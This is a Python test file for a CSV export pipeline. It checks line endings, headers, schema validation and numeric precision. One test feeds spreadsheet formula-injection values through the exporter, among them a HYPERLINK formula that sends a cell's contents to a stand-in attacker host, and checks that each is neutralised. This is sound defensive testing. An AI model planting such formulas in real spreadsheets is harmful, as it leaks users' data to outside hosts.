"""CSV: RFC 4180 that spreadsheets and programs read alike, and the descriptions that hold of it."""

import csv
import json
import math
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from csvw import CSVW
from jsonschema import Draft202012Validator

from pipeline.export import Format, export
from pipeline.export.columns import COUNTS, RECORDS, Column, Kind, count_values, record_values
from pipeline.export.formulas import restore_text
from pipeline.rows import DocumentRows

Sources = Callable[..., list[DocumentRows]]


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return [*csv.DictReader(stream, strict=True)]


def typed(cell: str, column: Column) -> Any:
    """A cell as the descriptions say that it is to be read."""
    if column.kind is Kind.CODES:
        return cell.split()
    if not cell:
        return None
    if column.kind is Kind.BOOLEAN:
        return {"true": True, "false": False}[cell]
    if column.kind in (Kind.INTEGER, Kind.YEAR):
        return int(cell)
    return float(cell) if column.kind is Kind.NUMBER else restore_text(cell)


@pytest.fixture
def folder(source: Sources, tmp_path: Path) -> Path:
    export(source(), Format.CSV, tmp_path / "out")
    return tmp_path / "out"


def test_what_a_person_sees(folder: Path) -> None:
    records = read(folder / "records.csv")
    assert [row["record_id"] for row in records] == ["en/=1+1#1", "fr/libertad#1", "fr/libertad#2"]
    assert [row["countries"] for row in records] == ["", "GY LC", ""]
    assert (records[1]["operation"], records[1]["date_start"], records[1]["year"]) == ("Libertad", "2018-04-03", "2018")
    assert (records[2]["dates"], records[2]["date_start"], records[2]["date_end"], records[2]["kind"]) == ("2016-04/..", "2016-04-01", "", "total")  # fmt: skip
    counts = {row["count_id"]: row for row in read(folder / "counts.csv")}
    figures = [[row[name] for name in ("value", "low", "high", "modifier", "not_summed")] for row in counts.values()]
    assert figures == [
        ["1000000", "1000000", "1000000", "", ""],
        ["94", "94", "94", "", ""],
        ["85", "85", "85", "", ""],
        ["500", "500", "", "more_than", ""],
        ["", "200", "300", "", ""],
        ["0.25", "0", "0.25", "at_most", "total"],
    ]
    part = counts["fr/libertad#1.1.1"]
    assert (part["parent_id"], part["of_category"], part["presumed"]) == ("fr/libertad#1.1", "victims", "false")
    # What is said of a country is of the part above it.
    assert (part["where"], part["counted_under"]) == ("", "GY")
    assert counts["fr/libertad#1.1"]["label"] == "jeunes filles 🙂"


def test_every_value_comes_back(source: Sources, folder: Path) -> None:
    for name, table, values in (("records", RECORDS, record_values), ("counts", COUNTS, count_values)):
        wanted = [
            [[*value] if isinstance(value, tuple) else value for value in row] for entry in source() for row in values(entry)
        ]
        rows = read(folder / f"{name}.csv")
        assert [[typed(row[column.name], column) for column in table.columns] for row in rows] == wanted


def test_no_cell_is_a_formula(folder: Path) -> None:
    (record,) = (row for row in read(folder / "records.csv") if row["operation"].startswith("'"))
    assert record["operation"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Épervier")'
    assert (record["url"], record["path"], record["title"]) == ("'-1+1", "'\tcorpus/=1+1.txt", "#N/A")
    (count,) = (row for row in read(folder / "counts.csv") if row["unit"] == "EUR")
    assert count["label"].startswith("'@SUM")
    assert count["text"] == "one, \"two\"\r\n'-three;'=1+1\x07 _x0041_ #N/A"


def test_bytes(folder: Path) -> None:
    """RFC 4180 line ends, a byte order mark for Excel, and a header that never changes without notice."""
    header, *_ = (folder / "records.csv").read_bytes().split(b"\r\n")
    assert header.decode() == (
        "\ufeffrecord_id,doc_id,position,operation,dates,date_start,date_end,year,countries,kind,language,published,path,url,title,event_id"
    )
    header, *_ = (folder / "counts.csv").read_bytes().split(b"\r\n")
    assert header.decode() == (
        "\ufeffcount_id,record_id,doc_id,parent_id,position,category,value,low,high,modifier,unit,presumed,where,label,"
        "of_category,counted_under,not_summed,start,end,text,rule"
    )


def csvw_of(folder: Path) -> CSVW:
    return CSVW(str(folder / "counts.csv"), md_url=str(folder / "csv-metadata.json"), validate=True)


def test_csv_on_the_web_is_valid(folder: Path) -> None:
    """Held against the W3C recommendation: header, types, formats, required cells, primary and foreign keys."""
    described = csvw_of(folder)
    assert described.is_valid, described.warnings
    assert not described.warnings
    metadata = json.loads((folder / "csv-metadata.json").read_text(encoding="utf-8"))
    assert [table["url"] for table in metadata["tables"]] == ["records.csv", "counts.csv"]
    assert metadata["tables"][0]["tableSchema"]["columns"][3]["titles"] == {
        "und": "operation",
        "en": "Operation",
        "fr": "Opération",
    }


@pytest.mark.parametrize(
    ("name", "right", "wrong"),
    [
        ("counts.csv", b",victims,94,", b",victim,94,"),
        ("counts.csv", b",victims,94,", b",victims,many,"),
        ("counts.csv", b"fr/libertad#1.2,fr/libertad#1,", b"fr/libertad#1.2,fr/libertad#9,"),
        ("records.csv", b"fr/libertad#2,", b"fr/libertad#1,"),
        ("records.csv", b",2018-04-03,", b",2018-04-33,"),
    ],
)
def test_csv_on_the_web_sees_what_is_wrong(folder: Path, name: str, right: bytes, wrong: bytes) -> None:
    content = (folder / name).read_bytes()
    assert content.count(right) == 1
    (folder / name).write_bytes(content.replace(right, wrong))
    try:
        is_valid = csvw_of(folder).is_valid
    except (ValueError, UserWarning):
        is_valid = False
    assert not is_valid


def test_json_schema_holds(folder: Path) -> None:
    schema = json.loads((folder / "tables.schema.json").read_text(encoding="utf-8"))
    Draft202012Validator.check_schema(schema)
    validator = Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER)
    tables = {
        name: [{column.name: typed(row[column.name], column) for column in table.columns} for row in read(folder / f"{name}.csv")]
        for name, table in (("records", RECORDS), ("counts", COUNTS))
    }
    assert [*validator.iter_errors(tables)] == []
    for name, value in (("category", "victim"), ("low", None), ("where", "FR"), ("start", -1)):
        wrong = {**tables, "counts": [{**tables["counts"][0], name: value}]}
        assert not validator.is_valid(wrong), name


def test_figures_keep_their_precision(source: Sources, tmp_path: Path) -> None:
    from pipeline.records import Count, DocumentRecords, Record

    values = [0.1, 1e-7, 12345678901234567890, 1e22, 2.0, 0.30000000000000004]
    counts = [Count(category="drugs", unit="kg", value=value) for value in values]
    export(source(DocumentRecords(doc_id="en/x", language="en", records=[Record(counts=counts)])), Format.CSV, tmp_path / "out")
    cells = [row["value"] for row in read(tmp_path / "out/counts.csv")]
    assert all(math.isclose(float(cell), value, rel_tol=0) for cell, value in zip(cells, values, strict=True))
    assert cells[4] == "2"
